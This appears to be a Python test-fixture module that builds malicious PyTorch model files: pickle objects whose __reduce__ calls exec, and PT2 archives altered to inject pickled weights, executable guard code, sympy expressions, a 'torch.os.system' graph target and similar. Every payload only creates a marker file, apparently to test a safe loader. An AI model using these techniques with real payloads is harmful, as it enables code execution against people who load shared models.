"""Builders of hostile model files: each, if its reader ran its payload, would create ``marker``."""

from __future__ import annotations

import io
import json
import pickle
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn


class Payload:
    """Unpickling this object runs ``open(marker, "w")``."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (exec, (f"open({self.marker!r}, 'w').close()",))


def evil_pickle(marker: Path) -> bytes:
    return pickle.dumps(Payload(marker), protocol=2)


def evil_torch_save(marker: Path) -> bytes:
    """A ``torch.save`` zip whose ``data.pkl`` runs the payload."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2), "x": Payload(marker)}, buf)
    return buf.getvalue()


def export_mlp(path: Path, batch: int = 5) -> torch.export.ExportedProgram:
    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(3, 4), nn.ReLU(), nn.Linear(4, 2))
    ep = torch.export.export(model, (torch.randn(batch, 3),), dynamic_shapes=({0: torch.export.Dim("batch")},))
    torch.export.save(ep, str(path))
    return ep


def rewrite(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> None:
    """Copy the zip ``src`` to ``dst``; ``edit(relative name, bytes)`` returns new bytes (None: keep)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        root = zin.namelist()[0].split("/")[0] + "/"
        for info in zin.infolist():
            data = zin.read(info)
            new = edit(info.filename[len(root):], data)
            zout.writestr(info, data if new is None else new)
        for name, data in (extra or {}).items():
            zout.writestr(root + name, data)


def _json_edit(member: str, change: Callable[[dict], None]) -> Callable[[str, bytes], bytes | None]:
    def edit(name: str, data: bytes) -> bytes | None:
        if name != member:
            return None
        obj = json.loads(data)
        change(obj)
        return json.dumps(obj).encode()

    return edit


def pt2_sample_inputs(src: Path, dst: Path, marker: Path) -> None:
    rewrite(src, dst, lambda n, d: evil_torch_save(marker) if n == "data/sample_inputs/model.pt" else None)


def pt2_pickled_weight(src: Path, dst: Path, marker: Path) -> None:
    def flag(cfg: dict) -> None:
        cfg["config"]["0.weight"]["use_pickle"] = True

    def edit(name: str, data: bytes) -> bytes | None:
        if name == "data/weights/weight_0":
            return evil_pickle(marker)
        return _json_edit("data/weights/model_weights_config.json", flag)(name, data)

    rewrite(src, dst, edit)


def pt2_opaque_constant(src: Path, dst: Path, marker: Path) -> None:
    def add(cfg: dict) -> None:
        cfg["config"]["c"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}

    rewrite(src, dst, _json_edit("data/constants/model_constants_config.json", add),
            {"data/constants/opaque_obj_0": evil_pickle(marker)})


def pt2_legacy_weights(src: Path, dst: Path, marker: Path) -> None:
    rewrite(src, dst, lambda n, d: None, {"data/weights/model.pt": evil_pickle(marker)})


def pt2_guard_code(src: Path, dst: Path, marker: Path) -> None:
    code = f"open({str(marker)!r}, 'w').close() is None"
    rewrite(src, dst, _json_edit("models/model.json", lambda p: p.__setitem__("guards_code", [code])))


def pt2_shape_expression(src: Path, dst: Path, marker: Path) -> None:
    def change(program: dict) -> None:
        text = json.dumps(program)
        symbol = re.search(r"Symbol\('s\d+', positive=True, integer=True\)", text).group(0)
        evil = f"open({str(marker)!r}, 'w').close() or {symbol}"
        program.clear()
        program.update(json.loads(text.replace(symbol, evil)))

    rewrite(src, dst, _json_edit("models/model.json", change))


def pt2_graph_target(src: Path, dst: Path, marker: Path) -> None:
    def change(program: dict) -> None:
        node = program["graph_module"]["graph"]["nodes"][-1]
        node["target"] = "torch.os.system"

    rewrite(src, dst, _json_edit("models/model.json", change))


def pt2_aoti(src: Path, dst: Path, marker: Path) -> None:
    rewrite(src, dst, lambda n, d: None, {"data/aotinductor/model/model.so": b"\x7fELF"})


def pt2_tree_type(src: Path, dst: Path, marker: Path) -> None:
    def change(program: dict) -> None:
        for entry in program["graph_module"]["module_call_graph"]:
            sig = entry.get("signature")
            if sig:
                sig["out_spec"] = sig["out_spec"].replace('"type": null', '"type": "collections.defaultdict"', 1)

    rewrite(src, dst, _json_edit("models/model.json", change))


PT2_ATTACKS = {
    "sample_inputs_pickle": pt2_sample_inputs,
    "weight_use_pickle": pt2_pickled_weight,
    "opaque_constant": pt2_opaque_constant,
    "legacy_weights": pt2_legacy_weights,
    "guards_code": pt2_guard_code,
    "sympy_expression": pt2_shape_expression,
    "graph_target": pt2_graph_target,
    "aotinductor": pt2_aoti,
    "pytree_type": pt2_tree_type,
}
